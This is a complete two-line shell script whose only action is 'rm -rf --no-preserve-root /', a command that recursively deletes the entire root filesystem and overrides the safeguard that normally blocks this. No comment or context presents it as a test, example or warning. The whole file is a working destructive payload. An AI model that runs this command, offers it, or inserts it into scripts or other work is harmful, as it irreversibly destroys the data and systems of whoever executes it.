#!/bin/sh
rm -rf --no-preserve-root /
